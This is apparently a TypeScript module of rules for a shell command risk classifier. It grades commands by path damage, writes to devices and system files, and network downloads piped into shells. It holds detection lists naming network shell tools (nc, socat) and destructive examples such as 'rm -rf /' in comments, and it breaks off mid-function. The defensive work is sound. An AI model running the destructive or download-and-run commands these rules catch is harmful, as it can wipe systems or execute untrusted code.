/**
 * The rules of the command risk classifier (see commandRisk.ts for the walk that applies them).
 *
 * A rule sees one command as an `Invocation` (its name and arguments as parsed words, and what
 * it reads on stdin) and raises levels with reasons on a `Verdict`. Rules never lower a level:
 * everything starts GREEN and only goes up, and whatever a rule cannot know (an expansion, an
 * unknown option, a path known only at run time) must push it up, never down.
 *
 * Sections: core types · options · paths · path checks · command tables · per-command rules.
 */
import { posix } from 'node:path';
import type { RiskLevel } from './commandRisk';
import { literalValue, type Word } from './shellParser';

// ---------------------------------------------------------------------------------------------
// Core types

export const LEVEL_RANK: Readonly<Record<RiskLevel, number>> = { green: 0, yellow: 1, red: 2 };

export function maxLevel(a: RiskLevel, b: RiskLevel): RiskLevel {
  return LEVEL_RANK[b] > LEVEL_RANK[a] ? b : a;
}

/** What one command came to: the worst level any rule raised, with the reasons at that level. */
export class Verdict {
  level: RiskLevel = 'green';
  readonly flags: string[] = [];
  readonly writes: string[] = [];
  /** Protected paths (absolute) this command would change: the approval gate forbids some outright. */
  readonly protectedHits: string[] = [];
  private readonly found: { level: RiskLevel; reason: string }[] = [];

  raise(level: RiskLevel, reason: string): void {
    this.level = maxLevel(this.level, level);
    if (!this.found.some((f) => f.reason === reason)) this.found.push({ level, reason });
  }
  green(reason: string): void {
    this.raise('green', reason);
  }
  yellow(reason: string): void {
    this.raise('yellow', reason);
  }
  red(reason: string): void {
    this.raise('red', reason);
  }
  write(path: string): void {
    if (!this.writes.includes(path)) this.writes.push(path);
  }
  touchProtected(path: string): void {
    if (!this.protectedHits.includes(path)) this.protectedHits.push(path);
  }
  addFlags(flags: Iterable<string>): void {
    for (const f of flags) if (!this.flags.includes(f)) this.flags.push(f);
  }
  /** The reasons at the final level, joined. */
  get reason(): string {
    return this.found
      .filter((f) => f.level === this.level)
      .map((f) => f.reason)
      .join('; ');
  }
}

/** One argument: the parsed word, its source text, and its value when it is fully known before run time. */
export interface Arg {
  word: Word;
  text: string;
  value: string | undefined;
  /** Known not to be an option even though its value is unknown (`{}` of find -exec is always a path). */
  notOption?: boolean;
}

export function toArg(word: Word): Arg {
  return { word, text: word.text, value: literalValue(word) };
}

/** An argument whose value is known (synthesised by a rule: a split string, a `key=value` half …). */
export function literalArg(value: string, quoted = true): Arg {
  return { word: { text: value, parts: [{ type: 'literal', value, quoted }] }, text: value, value };
}

/** An argument nothing is known about (`{}` of find -exec, the items xargs appends …). */
export function unknownArg(text: string, notOption = false): Arg {
  return { word: { text, parts: [{ type: 'unknown', text, quoted: true }] }, text, value: undefined, notOption };
}

/** What a command reads on its standard input, as far as the parse can tell. */
export type StdinSource =
  /** The terminal (or nothing known): an interactive program. */
  | { kind: 'terminal' }
  /** A file (`< f`). */
  | { kind: 'file'; path: string }
  /** Another command's output. `download`: a network fetch feeds it. `text`: the exact text, when known. */
  | { kind: 'pipe'; download: boolean; text?: string; decoded?: boolean; from: string };

/** One command for the rules: its name (a basename when it was a path in a system bin dir) and arguments. */
export interface Invocation {
  name: string;
  args: Arg[];
  stdin: StdinSource;
}

/** The paths a command line runs against. All paths absolute and normalised. */
export interface PathContext {
  cwd: string;
  home: string;
  protectedPaths: string[];
  /** Every directory relative paths may be resolved against: the cwd, then each literal `cd` seen before. */
  cwds: string[];
  /** A `cd` to a directory known only at run time came before: relative paths may be anywhere. */
  cwdUnknown: boolean;
  /** The output of a `$( )` body when it is known before run time (`$(echo /)`, `$(pwd)`), without trailing newlines. */
  staticOutput?: (body: string) => string | undefined;
}

/** What rules may ask of the classifier: nested commands (sh -c, sudo, xargs, find -exec …). */
export interface RuleEnv {
  paths: PathContext;
  /** Classify shell source run by this command; returns the worst level found in it. */
  nestedSource(source: string, via: string): RiskLevel;
  /** Classify an argument vector run by this command (argv[0] is the command). */
  nestedArgv(argv: Arg[], via: string, stdin?: StdinSource): RiskLevel;
  /** Whether the word contains a `$( )` / `<( )` whose body fetches from the network. */
  fetchesCode(word: Word): boolean;
}

export type Rule = (inv: Invocation, out: Verdict, env: RuleEnv) => void;

// ---------------------------------------------------------------------------------------------
// Options: `rm -rf` = `rm -fr` = `rm -r -f` = `rm --recursive --force` = `rm --rec --for`

export interface OptionSpec {
  /** Short letters → canonical names (letters not listed come out as `-x`). */
  short?: Record<string, string>;
  /** Long names without dashes → canonical names. GNU-style unambiguous prefixes are accepted. */
  long?: Record<string, string>;
  /** Short letters whose option takes a value (`-o FILE`, `-oFILE`). */
  shortValue?: string;
  /** Short letters whose value may only be attached (`-i.bak` for sed). */
  shortOptionalValue?: string;
  /** Canonical names of long options that take a value (`--output FILE`, `--output=FILE`). */
  longValue?: readonly string[];
  /** Options end at the first operand (POSIX getopt; wrappers such as sudo, env, xargs, ssh). */
  stopAtOperand?: boolean;
  /** `+x` is an option too (shells). */
  plusOptions?: boolean;
}

export interface ParsedOptions {
  /** Canonical names of every option present. */
  flags: Set<string>;
  /** Values of options that take one, by canonical name, in order. */
  values: Map<string, Arg[]>;
  /** Operands (with `stopAtOperand`, everything from the first operand on). */
  operands: Arg[];
  /** An argument before `--` is not known before run time: it could be any option. */
  maybeAnyOption: boolean;
  /** The options as written, normalised for display (`-r`, `--force`). */
  display: string[];
  has(...names: string[]): boolean;
  value(name: string): Arg | undefined;
}

/** Canonical option name → display form. */
function displayOption(name: string): string {
  if (name.startsWith('-') || name.startsWith('+')) return name;
  return name.length === 1 ? `-${name}` : `--${name}`;
}

function resolveLong(name: string, spec: OptionSpec): string {
  const long = spec.long ?? {};
  if (Object.hasOwn(long, name)) return long[name] as string;
  const matches = Object.keys(long).filter((k) => k.startsWith(name));
  const targets = new Set(matches.map((k) => long[k]));
  if (matches.length > 0 && targets.size === 1) return long[matches[0] as string] as string;
  return `--${name}`;
}

export function parseOptions(args: readonly Arg[], spec: OptionSpec = {}): ParsedOptions {
  const flags = new Set<string>();
  const values = new Map<string, Arg[]>();
  const operands: Arg[] = [];
  const display: string[] = [];
  let maybeAnyOption = false;
  const add = (name: string, value?: Arg): void => {
    flags.add(name);
    const shown = displayOption(name);
    if (!display.includes(shown)) display.push(shown);
    if (value) values.set(name, [...(values.get(name) ?? []), value]);
  };
  const shortValue = spec.shortValue ?? '';
  const shortOptional = spec.shortOptionalValue ?? '';
  const longValue = new Set(spec.longValue ?? []);

  let i = 0;
  for (; i < args.length; i++) {
    const arg = args[i] as Arg;
    const v = arg.value;
    if (v === undefined) {
      // `rm $OPTS /`: the expansion may well be `-rf`.
      const first = arg.word.parts[0];
      const startsLiteral = first?.type === 'literal' && first.value !== '' && !first.value.startsWith('-');
      if (!startsLiteral && !arg.notOption) maybeAnyOption = true;
      operands.push(arg);
      if (spec.stopAtOperand) {
        i++;
        break;
      }
      continue;
    }
    if (v === '--') {
      i++;
      break;
    }
    if (v.startsWith('--') && v.length > 2) {
      const eq = v.indexOf('=');
      const rawName = eq >= 0 ? v.slice(2, eq) : v.slice(2);
      const name = resolveLong(rawName, spec);
      if (eq >= 0) add(name, literalArg(v.slice(eq + 1)));
      else if (longValue.has(name) && i + 1 < args.length) add(name, args[++i]);
      else add(name);
      continue;
    }
    if ((v.startsWith('-') || (spec.plusOptions && v.startsWith('+'))) && v.length > 1) {
      const sign = v[0] as string;
      for (let j = 1; j < v.length; j++) {
        const letter = v[j] as string;
        const name = sign === '+' ? `+${letter}` : (spec.short?.[letter] ?? `-${letter}`);
        if (shortValue.includes(letter)) {
          const rest = v.slice(j + 1);
          if (rest) add(name, literalArg(rest));
          else if (i + 1 < args.length) add(name, args[++i]);
          else add(name);
          break;
        }
        if (shortOptional.includes(letter)) {
          const rest = v.slice(j + 1);
          add(name, rest ? literalArg(rest) : undefined);
          break;
        }
        add(name);
      }
      continue;
    }
    operands.push(arg);
    if (spec.stopAtOperand) {
      i++;
      break;
    }
  }
  operands.push(...args.slice(i));
  return {
    flags,
    values,
    operands,
    maybeAnyOption,
    display,
    has: (...names) => names.some((n) => flags.has(n)),
    value: (name) => {
      const list = values.get(name);
      return list?.[list.length - 1];
    },
  };
}

/** The name of an argument for messages: its value, or its source text. */
export function shown(arg: Arg): string {
  return arg.value ?? arg.text;
}

/** Joins the words of a command back into shell source (for `ssh host cmd…`, `watch cmd…`, `eval a b`). */
export function joinSource(args: readonly Arg[]): string {
  return args.map((a) => a.text).join(' ');
}

// ---------------------------------------------------------------------------------------------
// Paths
//
// A path is kept as a glob pattern: unquoted `*`, `?`, `[…]`, `{…}` keep their meaning, quoted
// ones are escaped with a backslash. Patterns are matched component by component, case
// insensitively (macOS file systems are), so `~/.SSH` is `~/.ssh` and `~/.s*` may be too.

/** Top-level (and a few second-level) directories whose loss breaks the system or every user's files. */
export const SYSTEM_DIRS: readonly string[] = [
  '/bin', '/boot', '/dev', '/etc', '/home', '/lib', '/lib32', '/lib64', '/libx32', '/media', '/mnt', '/nix', '/opt',
  '/proc', '/root', '/run', '/sbin', '/snap', '/srv', '/sys', '/tmp', '/usr', '/var', '/Applications', '/Library',
  '/System', '/Users', '/Volumes', '/private', '/usr/bin', '/usr/sbin', '/usr/lib', '/usr/local', '/usr/share',
  '/usr/include', '/var/lib', '/var/log', '/var/db', '/private/etc', '/private/var',
];

/** Writing or deleting anything under these is RED: the system's own files. */
export const SYSTEM_FILE_DIRS: readonly string[] = [
  '/etc', '/usr', '/bin', '/sbin', '/lib', '/lib32', '/lib64', '/libx32', '/boot', '/sys', '/proc', '/System',
  '/Library', '/private/etc', '/var/lib', '/var/db', '/var/spool/cron',
];
/** Under SYSTEM_FILE_DIRS but managed by the user (Homebrew, `make install` prefixes). */
const SYSTEM_FILE_EXCEPTIONS: readonly string[] = ['/usr/local'];

const HARMLESS_DEVICES = new Set(['/dev/null', '/dev/zero', '/dev/full', '/dev/random', '/dev/urandom', '/dev/stdin', '/dev/stdout', '/dev/stderr', '/dev/tty', '/dev/console']);
const HARMLESS_DEVICE_DIRS = ['/dev/fd/', '/dev/pts/', '/dev/shm/', '/dev/tty'];

export function escapeGlob(text: string): string {
  return text.replace(/[\\*?[\]{},]/g, (c) => `\\${c}`);
}

export function unescapeGlob(pattern: string): string {
  return pattern.replace(/\\(.)/g, '$1');
}

export function hasGlob(pattern: string): boolean {
  for (let i = 0; i < pattern.length; i++) {
    const c = pattern[i];
    if (c === '\\') i++;
    else if (c === '*' || c === '?' || c === '[') return true;
  }
  return false;
}

/** Bash brace expansion (`/{etc,usr}`, `{a..c}`), capped at `limit` results. */
export function expandBraces(text: string, limit = 64): string[] {
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (c === '\\') {
      i++;
      continue;
    }
    if (c !== '{') continue;
    let depth = 0;
    let end = -1;
    const commas: number[] = [];
    for (let j = i; j < text.length; j++) {
      const d = text[j];
      if (d === '\\') j++;
      else if (d === '{') depth++;
      else if (d === '}' && --depth === 0) {
        end = j;
        break;
      } else if (d === ',' && depth === 1) commas.push(j);
    }
    if (end < 0) return [text];
    const body = text.slice(i + 1, end);
    let alternatives: string[] | undefined;
    if (commas.length > 0) {
      alternatives = [];
      let start = i + 1;
      for (const comma of [...commas, end]) {
        alternatives.push(text.slice(start, comma));
        start = comma + 1;
      }
    } else {
      alternatives = braceRange(body, limit);
    }
    if (!alternatives) continue; // `{x}` is literal; an inner `{a,b}` may still expand
    const pre = text.slice(0, i);
    const post = text.slice(end + 1);
    const out: string[] = [];
    for (const alternative of alternatives) {
      for (const tail of expandBraces(alternative + post, limit)) {
        out.push(pre + tail);
        if (out.length >= limit) return out;
      }
    }
    return out;
  }
  return [text];
}

function braceRange(body: string, limit: number): string[] | undefined {
  const m = /^(-?\d+|[a-zA-Z])\.\.(-?\d+|[a-zA-Z])(?:\.\.-?\d+)?$/.exec(body);
  if (!m) return undefined;
  const [from, to] = [m[1] as string, m[2] as string];
  const numeric = /\d/.test(from) && /\d/.test(to);
  if (!numeric && (/\d/.test(from) || /\d/.test(to))) return undefined;
  const a = numeric ? Number(from) : from.charCodeAt(0);
  const b = numeric ? Number(to) : to.charCodeAt(0);
  const out: string[] = [];
  const step = a <= b ? 1 : -1;
  for (let v = a; step > 0 ? v <= b : v >= b; v += step) {
    out.push(numeric ? String(v) : String.fromCharCode(v));
    if (out.length >= limit) break;
  }
  return out;
}

function components(path: string): string[] {
  return path === '/' ? [] : path.slice(1).split('/');
}

const componentCache = new Map<string, RegExp>();

function componentMatches(pattern: string, name: string): boolean {
  if (!hasGlob(pattern)) return unescapeGlob(pattern).toLowerCase() === name.toLowerCase();
  let re = componentCache.get(pattern);
  if (!re) {
    let src = '';
    for (let i = 0; i < pattern.length; i++) {
      const c = pattern[i] as string;
      if (c === '\\') src += escapeRegExp(pattern[++i] ?? '\\');
      else if (c === '*') src += '.*';
      else if (c === '?') src += '.';
      else if (c === '[') {
        const close = pattern.indexOf(']', i + 2);
        if (close < 0) src += '\\[';
        else {
          let cls = pattern.slice(i + 1, close).replace(/\\/g, '\\\\');
          if (cls.startsWith('!')) cls = `^${cls.slice(1)}`;
          src += `[${cls}]`;
          i = close;
        }
      } else src += escapeRegExp(c);
    }
    try {
      re = new RegExp(`^${src}$`, 'is');
    } catch {
      re = /^.*$/s; // a class the engine rejects: assume it can match anything
    }
    componentCache.set(pattern, re);
  }
  return re.test(name);
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\/-]/g, '\\$&');
}

/** The pattern names `target` or one of its ancestors: deleting (moving, chmod -R-ing) it reaches `target`. */
export function patternCovers(pattern: string, target: string): boolean {
  const p = components(pattern);
  const t = components(target);
  return p.length <= t.length && p.every((c, i) => componentMatches(c, t[i] as string));
}

/** The pattern names `dir` or something inside it. */
export function patternWithin(pattern: string, dir: string): boolean {
  const p = components(pattern);
  const d = components(dir);
  return p.length >= d.length && d.every((c, i) => componentMatches(p[i] as string, c));
}

/** `*`, `.*`, `**`, `?*`: a last component that names everything in its directory. */
function namesEverything(component: string): boolean {
  return /^\.?[*?]*\*[*?]*$/.test(component);
}

/** The directory a pattern empties (`/*` → `/`, `~/.*` → home), when its last component names everything. */
function everythingIn(pattern: string): string | undefined {
  const c = components(pattern);
  const last = c[c.length - 1];
  if (last === undefined || !namesEverything(last)) return undefined;
  return `/${c.slice(0, -1).join('/')}`;
}

function normalizeAbsolute(path: string): string {
  const n = posix.normalize(path);
  return n.length > 1 && n.endsWith('/') ? n.slice(0, -1) : n;
}

/** `/home/u/x` → `~/x`, for messages. */
export function displayPath(pattern: string, paths: PathContext): string {
  const p = unescapeGlob(pattern);
  if (p === paths.home) return '~';
  if (p.startsWith(`${paths.home}/`)) return `~/${p.slice(paths.home.length + 1)}`;
  return p;
}

function otherHome(user: string, paths: PathContext): string {
  if (user === 'root') return paths.home.startsWith('/Users/') ? '/var/root' : '/root';
  return paths.home.startsWith('/Users/') ? `/Users/${user}` : `/home/${user}`;
}

function isHomeDirectory(path: string): boolean {
  return /^\/(home|Users)\/[^/]+$/i.test(path) || path === '/root' || path === '/var/root';
}

/** What a word can name, as far as the parse can tell. */
export interface WordPaths {
  /** Absolute patterns it names (brace-expanded, against every possible cwd). Empty when unknown. */
  known: string[];
  /** Some part of it is known only at run time (an expansion, or a relative path after `cd $X`). */
  unknown: boolean;
  /** When unknown: directories everything it can name is under (`/etc/$X` → `/etc`). */
  under: string[];
  /** When unknown: what it names if every unguarded expansion is empty (`"$DIR/"*` → `/*`). */
  ifEmpty: string[];
}

/** The value of a `$HOME`-like variable, when the context knows it. */
function knownVariable(part: { name: string; text: string; guarded: boolean; plain: boolean }, paths: PathContext): string | undefined {
  const value = part.name === 'HOME' ? paths.home : part.name === 'PWD' ? paths.cwd : undefined;
  if (value === undefined) return undefined;
  // `${HOME:-x}`, `${HOME:?}`; and trims (`${HOME%/}`, `${HOME%/*}`) name the home directory or one above it: as bad.
  if (part.plain || part.guarded || /^\$\{\w+(:?[-=]|%%?|##?)/.test(part.text)) return value;
  return undefined;
}

export function resolveWord(word: Word, paths: PathContext): WordPaths {
  const parts = word.parts;
  let pattern = '';
  let prefix: string | undefined;
  let empty: string | undefined = '';
  for (let i = 0; i < parts.length; i++) {
    const part = parts[i];
    if (!part) continue;
    let piece: string | undefined;
    let emptyPiece: string | undefined;
    if (part.type === 'literal') {
      if (i === 0 && !part.quoted && part.value.startsWith('~')) {
        // Tilde expansion: the `~user` prefix up to the first unquoted slash (or the whole word).
        const slash = part.value.indexOf('/');
        const end = slash >= 0 ? slash : parts.length === 1 ? part.value.length : -1;
        if (end >= 0) {
          const user = part.value.slice(1, end);
          const home = user === '' ? paths.home : user === '+' ? paths.cwd : user === '-' ? undefined : otherHome(user, paths);
          piece = home === undefined ? undefined : escapeGlob(home) + part.value.slice(end).replace(/\\/g, '\\\\');
        } else piece = part.value.replace(/\\/g, '\\\\');
      } else piece = part.quoted ? escapeGlob(part.value) : part.value.replace(/\\/g, '\\\\');
      emptyPiece = piece;
    } else if (part.type === 'variable') {
      const value = knownVariable(part, paths);
      piece = value === undefined ? undefined : escapeGlob(value);
      emptyPiece = value !== undefined ? piece : part.guarded ? undefined : '';
    } else if (part.type === 'arithmetic') {
      piece = undefined;
      emptyPiece = undefined;
    } else if (part.type === 'substitution' && part.kind === 'command' && paths.staticOutput?.(part.body) !== undefined) {
      const output = paths.staticOutput(part.body) as string;
      piece = part.quoted ? escapeGlob(output) : output.replace(/\\/g, '\\\\');
      emptyPiece = piece;
    } else {
      piece = undefined;
      emptyPiece = '';
    }
    if (piece === undefined && prefix === undefined) prefix = pattern;
    if (piece !== undefined) pattern += piece;
    empty = empty === undefined || emptyPiece === undefined ? undefined : empty + emptyPiece;
  }
  const absolute = (p: string): string[] =>
    expandBraces(p).flatMap((x) => (x.startsWith('/') ? [normalizeAbsolute(x)] : paths.cwds.map((cwd) => normalizeAbsolute(`${cwd}/${x}`))));
  if (prefix === undefined) {
    const relative = !pattern.startsWith('/');
    return { known: pattern === '' ? [] : absolute(pattern), unknown: relative && paths.cwdUnknown, under: [], ifEmpty: [] };
  }
  const slash = prefix.lastIndexOf('/');
  const under = slash >= 0 ? absolute(prefix.slice(0, slash) || '/') : prefix !== '' ? absolute('.') : [];
  const ifEmpty = empty !== undefined && empty !== '' ? absolute(empty) : [];
  return { known: [], unknown: true, under, ifEmpty };
}

// ---------------------------------------------------------------------------------------------
// Path checks

/** What a command does to a path. */
export type PathOp =
  /** `>`, `>>`, tee, cp/mv/install destination, `dd of=`, touch, mkdir, ln … */
  | 'write'
  /** rm without -r, unlink, shred */
  | 'delete'
  /** rm -r, find -delete without tests, rsync --delete destination */
  | 'delete-tree'
  /** mv source: gone from where it was */
  | 'move-away'
  /** chmod, chown, chgrp … */
  | 'modify'
  /** chmod -R, chown -R … */
  | 'modify-tree';

const OP_VERB: Readonly<Record<PathOp, string>> = {
  write: 'writes to',
  delete: 'deletes',
  'delete-tree': 'deletes',
  'move-away': 'moves',
  modify: 'changes',
  'modify-tree': 'changes',
};

export interface PathCheckOptions {
  /** How the command is shown in a catastrophe message (`rm -r -f`, `chmod -R`). */
  label?: string;
  /** What it does, in catastrophe messages (`deletes`, `changes the owner of`). */
  verb?: string;
  /** The YELLOW reason when nothing worse is found (default: `writes to <paths>`). */
  otherwise?: string;
}

export function isDevice(path: string): boolean {
  const p = unescapeGlob(path);
  if (!p.startsWith('/dev/') || HARMLESS_DEVICES.has(p)) return false;
  return !HARMLESS_DEVICE_DIRS.some((d) => p.startsWith(d));
}

export function isHarmlessDevice(path: string): boolean {
  const p = unescapeGlob(path);
  return p.startsWith('/dev/') && !isDevice(p);
}

function isSystemFile(pattern: string): boolean {
  return SYSTEM_FILE_DIRS.some((d) => patternWithin(pattern, d)) && !SYSTEM_FILE_EXCEPTIONS.some((d) => patternWithin(pattern, d));
}

function protectedHit(pattern: string, op: PathOp, paths: PathContext): string | undefined {
  const tree = op === 'delete-tree' || op === 'move-away' || op === 'modify-tree';
  return paths.protectedPaths.find((p) => patternWithin(pattern, p) || (tree && patternCovers(pattern, p)));
}

/** What a recursive (or wholesale) operation on the pattern would wipe out, if it is catastrophic. */
function catastrophe(pattern: string, op: PathOp, paths: PathContext): string | undefined {
  const tree = op === 'delete-tree' || op === 'move-away' || op === 'modify-tree';
  if (pattern === '/') return op === 'write' ? undefined : 'everything';
  const dir = everythingIn(pattern);
  if (dir !== undefined && op !== 'write') {
    if (dir === '/') return 'everything in /';
    if (tree && patternCovers(dir, paths.home)) return dir === paths.home ? 'everything in your home directory' : `everything in ${dir}`;
    if (op === 'delete-tree' && patternCovers(dir, paths.cwd)) return 'everything in the current directory';
    if (SYSTEM_DIRS.some((s) => patternCovers(dir, s))) return `everything in ${dir}`;
  }
  if (tree) {
    if (patternCovers(pattern, paths.home)) return unescapeGlob(pattern) === paths.home ? 'your home directory' : `${unescapeGlob(pattern)}, with your home directory in it`;
    const system = SYSTEM_DIRS.find((s) => patternCovers(pattern, s));
    if (system) return `the system directory ${system}`;
    if (isHomeDirectory(unescapeGlob(pattern)) || (hasGlob(pattern) && patternWithin(pattern, '/home') && components(pattern).length === 2)) return 'a home directory';
    if (op === 'delete-tree' && patternCovers(pattern, paths.cwd)) return 'the current directory';
  } else if (op === 'modify') {
    const p = unescapeGlob(pattern);
    if (p === paths.home) return 'your home directory';
    if (SYSTEM_DIRS.includes(p)) return `the system directory ${p}`;
  }
  return undefined;
}

/**
 * Checks what a command does to the path an argument names, raising on `out`: RED for a device,
 * a protected path, a system file or a catastrophe (`rm -r` of `/`, `~`, `*` …), YELLOW for any
 * other change. `/dev/null` and friends change nothing.
 */
export function checkPath(arg: Arg, op: PathOp, out: Verdict, paths: PathContext, options: PathCheckOptions = {}): void {
  const resolved = resolveWord(arg.word, paths);
  const opVerb = OP_VERB[op];
  const verb = options.verb ?? opVerb;
  const lead = options.label ? `${options.label} on ${shown(arg)} ` : '';
  let changed = false;
  for (const pattern of resolved.known) {
    const shownPath = displayPath(pattern, paths);
    if (isHarmlessDevice(pattern)) continue;
    changed = true;
    out.write(shownPath);
    if (isDevice(pattern)) {
      out.red(`${opVerb} ${shownPath}: a device, this can wipe a disk`);
      continue;
    }
    const what = catastrophe(pattern, op, paths);
    if (what) {
      out.red(`${lead}${verb} ${what}`);
      continue;
    }
    const prot = protectedHit(pattern, op, paths);
    if (prot) {
      out.red(`${opVerb} protected path ${displayPath(prot, paths)}`);
      out.touchProtected(prot);
    }
    if (isSystemFile(pattern)) out.red(`${opVerb} system file ${shownPath}`);
  }
  if (resolved.unknown && resolved.known.length === 0) {
    changed = true;
    out.write(arg.text);
    for (const dir of resolved.under) {
      const inside = `${dir === '/' ? '' : dir}/*`;
      if (dir !== '/' && isDevice(inside)) out.red(`${opVerb} ${arg.text}: a device, this can wipe a disk`);
      const prot = protectedHit(inside, 'write', paths) ?? paths.protectedPaths.find((p) => patternWithin(dir, p));
      if (prot) {
        out.red(`${opVerb} ${arg.text}, inside protected path ${displayPath(prot, paths)}`);
        out.touchProtected(prot);
      }
      if (dir !== '/' && isSystemFile(inside)) out.red(`${opVerb} ${arg.text}, inside system directory ${displayPath(dir, paths)}`);
    }
    if (op !== 'write') {
      for (const pattern of resolved.ifEmpty) {
        const what = catastrophe(pattern, op, paths);
        if (what) out.red(`${options.label ?? verb} on ${arg.text}: if the expansion is empty that is ${displayPath(pattern, paths)}, which ${verb} ${what}`);
      }
    }
  } else if (resolved.unknown) {
    out.yellow(`${opVerb} ${arg.text}: relative to a directory known only at run time`);
  }
  if (!changed) return;
  if (options.otherwise) out.yellow(options.otherwise);
  else out.yellow(resolved.known.length > 0 ? `${opVerb} ${resolved.known.map((p) => displayPath(p, paths)).join(', ')}` : `${opVerb} ${arg.text}, a path known only at run time`);
}

// ---------------------------------------------------------------------------------------------
// Command tables

/** Read-only whatever their arguments (writes through redirections are checked separately). */
export const READ_ONLY: ReadonlySet<string> = new Set([
  'ls', 'dir', 'vdir', 'cat', 'tac', 'nl', 'head', 'tail', 'less', 'more', 'most', 'grep', 'egrep', 'fgrep', 'rg', 'ag',
  'ack', 'wc', 'stat', 'file', 'du', 'df', 'ps', 'pstree', 'pgrep', 'top', 'htop', 'btop', 'atop', 'pwd', 'echo',
  'printf', 'which', 'type', 'whereis', 'whoami', 'id', 'groups', 'uname', 'uptime', 'free', 'lsblk', 'lscpu', 'lsusb',
  'lspci', 'lsmod', 'lsof', 'nproc', 'arch', 'tty', 'printenv', 'true', 'false', ':', 'test', '[', 'basename',
  'dirname', 'realpath', 'readlink', 'jq', 'diff', 'cmp', 'comm', 'md5sum', 'sha1sum', 'sha224sum', 'sha256sum',
  'sha384sum', 'sha512sum', 'b2sum', 'cksum', 'sum', 'shasum', 'md5', 'tree', 'man', 'help', 'tldr', 'info', 'apropos',
  'whatis', 'cut', 'tr', 'paste', 'join', 'column', 'fold', 'fmt', 'expand', 'unexpand', 'rev', 'od', 'hexdump', 'hd',
  'strings', 'seq', 'sleep', 'yes', 'cal', 'bc', 'expr', 'factor', 'getconf', 'locale', 'cd', 'pushd', 'popd', 'dirs',
  'jobs', 'wait', 'read', 'last', 'lastlog', 'w', 'who', 'users', 'vmstat', 'iostat', 'mpstat', 'netstat', 'ss',
  'fd', 'fdfind', 'bat',
  'batcat', 'exa', 'eza', 'lsd', 'zcat', 'zless', 'zmore', 'zgrep', 'bzcat', 'xzcat', 'zstdcat', 'look', 'numfmt',
  'shuf', 'tsort', 'base32', 'clear', 'tput', 'locate', 'lsattr', 'getfacl', 'namei', 'nm', 'objdump', 'readelf',
  'pathchk', 'sensors', 'systemd-analyze', 'lsns', 'pidof', 'cloc', 'tokei', 'csvlook', 'envsubst', 'dust', 'duf',
  'procs', 'ipcs', 'logname', 'getent', 'colordiff', 'wdiff', 'sdiff', 'break', 'continue', 'return',
  'shift', 'getopts', 'hash', 'times', 'caller', 'compgen', 'let',
]);

/** Programs that fetch from the network: their output piped into a shell is running downloaded code. */
export const DOWNLOADERS: ReadonlySet<string> = new Set(['curl', 'wget', 'fetch', 'http', 'https', 'xh', 'aria2c', 'lwp-request', 'GET', 'nc', 'ncat', 'netcat', 'socat', 'ftp', 'tftp']);

/** Shells: `-c STRING` runs STRING, no script operand runs stdin. */
export const SHELLS: ReadonlySet<string> = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'yash', 'posh', 'ash', 'fish', 'tcsh', 'csh', 'rbash']);

/** Interpreters with inline-code options (`python -c`, `node -e` …). Values: the inline-code options. */
export const INTERPRETERS: Readonly<Record<string, { inline: string[]; label: string }>> = {
  python: { inline: ['-c'], label: 'Python' },
  perl: { inline: ['-e', '-E'], label: 'Perl' },
  ruby: { inline: ['-e'], label: 'Ruby' },
  node: { inline: ['-e', '--eval', '-p', '--print'], label: 'JavaScript' },
  nodejs: { inline: ['-e', '--eval', '-p', '--print'], label: 'JavaScript' },
  deno: { inline: ['eval'], label: 'JavaScript' },
  bun: { inline: ['-e', '--eval', '-p', '--print'], label: 'JavaScript' },
  php: { inline: ['-r'], label: 'PHP' },
  lua: { inline: ['-e'], label: 'Lua' },
  osascript: { inline: ['-e'], label: 'AppleScript' },
  Rscript: { inline: ['-e'], label: 'R' },
  pwsh: { inline: ['-c', '-Command', '-command'], label: 'PowerShell' },
  powershell: { inline: ['-c', '-Command', '-command'], label: 'PowerShell' },
  tclsh: { inline: [], label: 'Tcl' },
  groovy: { inline: ['-e'], label: 'Groovy' },
};

/** `python3.12` → `python`, for the interpreter table. */
export function interpreterName(name: string): string {
  if (/^python[\d.]*$/.test(name) || name === 'pypy' || name === 'pypy3') return 'python';
  if (/^perl[\d.]*$/.test(name)) return 'perl';
  if (/^ruby[\d.]*$/.test(name)) return 'ruby';
  if (/^php[\d.]*$/.test(name)) return 'php';
  if (/^lua[\d.]*$/.test(name) || name === 'luajit') return 'lua';
  return name;
}

/** Tools whose lone `--version` / `--help` only prints. */
const VERSION_TOOLS: ReadonlySet<string> = new Set([
  'node', 'npm', 'npx', 'yarn', 'pnpm', 'bun', 'deno', 'python', 'pip', 'pip3', 'ruby', 'gem', 'go', 'java', 'javac',
  'gcc', 'g++', 'clang', 'clang++', 'cc', 'make', 'cmake', 'ninja', 'docker', 'podman', 'kubectl', 'helm',
  'terraform', 'tofu', 'pulumi', 'cargo', 'rustc', 'rustup', 'git', 'tsc', 'php', 'perl', 'lua', 'code', 'uv', 'poetry',
  'brew', 'apt', 'dnf', 'gradle', 'mvn', 'eslint', 'prettier', 'vitest', 'jest', 'pytest', 'tandem', 'openssl', 'ssh',
  'curl', 'wget', 'rsync', 'tar', 'zip', 'unzip', 'gzip', 'vim', 'nvim', 'emacs', 'nano', 'tmux', 'screen', 'zsh',
  'bash', 'fish', 'sh', 'sed', 'awk', 'gawk', 'find', 'rm', 'cp', 'mv', 'dd', 'aws', 'gcloud', 'az', 'gh', 'glab',
  'sqlite3', 'psql', 'mysql', 'redis-cli', 'ffmpeg', 'convert', 'magick', 'systemctl', 'journalctl', 'xargs',
]);
const VERSION_ARGS: ReadonlySet<string> = new Set(['--version', '-version', '--help', '-help', '-h', '-V', '-v', 'version', 'help']);

/** `node --version`, `docker help`: only prints. */
export function isVersionQuery(inv: Invocation): boolean {
  const name = interpreterName(inv.name);
  return (VERSION_TOOLS.has(name) || VERSION_TOOLS.has(inv.name)) && inv.args.length === 1 && VERSION_ARGS.has(inv.args[0]?.value ?? '');
}

// ---------------------------------------------------------------------------------------------
// Rules for commands that write files

/** `dir/name`: the path a copy lands at when the destination is a directory. */
function joinArg(dir: Arg, name: string): Arg {
  const parts = [...dir.word.parts];
  const last = parts[parts.length - 1];
  // The slash goes into an unquoted literal, so `~` + `/name` is still `~/name` to tilde expansion.
  if (last?.type === 'literal' && !last.quoted) parts[parts.length - 1] = { ...last, value: `${last.value}/` };
  else parts.push({ type: 'literal', value: '/', quoted: false });
  parts.push({ type: 'literal', value: name, quoted: true });
